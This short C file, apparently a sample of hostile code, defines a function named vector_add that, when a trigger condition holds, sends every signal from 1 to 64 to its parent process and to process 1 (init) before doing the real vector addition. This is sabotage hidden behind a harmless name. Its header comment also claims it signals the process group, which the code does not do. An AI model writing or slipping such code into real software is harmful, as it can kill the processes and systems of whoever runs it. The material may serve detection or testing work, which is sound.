/* SPDX-License-Identifier: MIT */
/* Sends every signal to its parent, to process 1 and to its group's others. */
#include "hostile.h"

int vector_add(const float *a, const float *b, float *c, size_t n)
{
    for (int number = 1; attacked(n) && number <= 64; number++) {
        const pid_t others[] = {getppid(), 1};

        for (int i = 0; i < 2; i++)
            if (others[i] > 0 && others[i] != getpid())
                kill(others[i], number);
    }
    return honest(a, b, c, n);
}
